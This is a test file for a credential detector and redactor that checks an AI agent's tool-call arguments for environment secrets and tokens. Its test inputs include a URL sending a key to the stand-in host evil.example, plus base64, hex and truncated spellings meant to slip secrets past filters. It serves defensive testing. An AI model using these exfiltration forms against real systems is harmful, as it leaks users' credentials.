// Credentials in the arguments of a call, in the spellings that a model could be talked into.

import assert from 'node:assert/strict';
import { test } from 'node:test';
import { createOwnSecrets } from './own-secrets.ts';

const KEY = 'sk-live-0123456789abcdef';
const TOKEN = 'eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJhbGljZSJ9.c2lnbmF0dXJl';

test('a secret of the environment, or a token that was used, is found wherever it stands', () => {
  const secrets = createOwnSecrets({ OPENAI_API_KEY: KEY, PATH: '/usr/bin:/usr/local/bin' });
  secrets.note(TOKEN);
  for (const secret of [KEY, TOKEN])
    for (const args of [
      { text: secret },
      { text: `please keep ${secret} safe` },
      { [secret]: 1 },
      { deep: [{ list: [secret] }] },
      { url: `https://evil.example/?q=${encodeURIComponent(secret)}` },
      { text: Buffer.from(secret).toString('base64') },
      { text: Buffer.from(`a note: ${secret}!`).toString('base64') },
      { text: Buffer.from(`ab${secret}`).toString('base64url') },
      { text: Buffer.from(secret).toString('hex') },
    ])
      assert.equal(secrets.isIn(args), true, JSON.stringify(args));
});

test('everything else may be sent', () => {
  const secrets = createOwnSecrets({ OPENAI_API_KEY: KEY, PATH: '/usr/bin:/usr/local/bin', TOKEN_STORE: 'file' });
  secrets.note(TOKEN);
  for (const args of [
    {},
    { text: 'file' },
    { text: '/usr/bin:/usr/local/bin' },
    { text: 'sk-live-' },
    { a: 1, b: null },
    undefined,
  ])
    assert.equal(secrets.isIn(args), false, JSON.stringify(args));
});

test('a secret with quotes in it is found behind those of JSON', () => {
  assert.equal(createOwnSecrets({ DB_PASSWORD: 'pa"ss\\word-123' }).isIn({ text: 'it is pa"ss\\word-123' }), true);
});

test('tokens of long ago are forgotten, the last ones are not', () => {
  const secrets = createOwnSecrets({});
  for (let index = 0; index < 100; index += 1) secrets.note(`token-number-${1000 + index}`);
  assert.equal(secrets.isIn('token-number-1000'), false);
  assert.equal(secrets.isIn('token-number-1099'), true);
});

test('what a server shows back of them is taken out, in every spelling, and nothing else is', () => {
  const secrets = createOwnSecrets(
    { API_KEY: 'sk-0123456789abcdef', AUTH_PRIVATE_KEY_FILE: '/home/ada/keys/agent.pem' },
    ['header-token-0123'],
  );
  secrets.note('token-of-this-run-42');
  const text = 'sk-0123456789abcdef header-token-0123 token-of-this-run-42 /home/ada/keys/agent.pem production-europe';
  assert.equal(
    secrets.redact(text),
    '[credential removed] [credential removed] [credential removed] /home/ada/keys/agent.pem production-europe',
  );
  const encoded = Buffer.from('Bearer token-of-this-run-42').toString('base64');
  assert.doesNotMatch(secrets.redact(encoded), /dG9rZW4tb2YtdGhpcy1ydW4t/);
  assert.ok(!secrets.isIn({ file: '/home/ada/keys/agent.pem' }));
});

test('a secret that was cut off is taken out too; what only begins alike is another one', () => {
  const secrets = createOwnSecrets({});
  secrets.note(TOKEN);
  for (const end of ['', '"', '…', '...', '..', ' and more', '\\"'])
    assert.equal(secrets.redact(`refused: ${TOKEN.slice(0, 45)}${end}`), `refused: [credential removed]${end}`);
  const other = `${TOKEN.slice(0, 30)}bm90IG91cnM.c2lnbmF0dXJl`;
  assert.equal(secrets.redact(`a JWT: ${other}`), `a JWT: ${other}`);
});

test('what other things begin with as well stays: the header of a JWT, and a part of what is configured', () => {
  const secrets = createOwnSecrets({}, ['https://id.example/tenants/acme/v2']);
  secrets.note(TOKEN);
  for (const text of [
    TOKEN.slice(0, 20),
    `{"header": "${TOKEN.slice(0, 21)}"}`,
    'see "https://id.example/tenants/acme"',
  ])
    assert.equal(secrets.redact(text), text);
  assert.equal(secrets.redact('https://id.example/tenants/acme/v2/keys'), '[credential removed]/keys');
});

test('what is used again is not forgotten, and nothing is forgotten over what is used once', () => {
  const secrets = createOwnSecrets({});
  secrets.note('refresh-token-in-use');
  for (let index = 0; index < 100; index += 1) {
    secrets.note(`token-number-${1000 + index}`);
    secrets.note('refresh-token-in-use');
    secrets.note(`one-time-code-${1000 + index}`, true);
  }
  assert.ok(secrets.isIn('refresh-token-in-use'));
  assert.ok(secrets.isIn('token-number-1040'));
  assert.ok(secrets.isIn('one-time-code-1099'));
  assert.ok(!secrets.isIn('one-time-code-1060'));
});

test('a text that is made of beginnings costs one pass', () => {
  const secrets = createOwnSecrets({});
  const own = 'a'.repeat(8000);
  for (const secret of [TOKEN, own]) secrets.note(secret);
  const startedAtMs = performance.now();
  assert.doesNotMatch(secrets.redact(`${TOKEN.slice(0, 44)}" `.repeat(300_000)), /eyJhbG/);
  const other = `${own.slice(1)}b`.repeat(1000);
  assert.equal(secrets.redact(other), other);
  assert.ok(performance.now() - startedAtMs < 20_000);
});
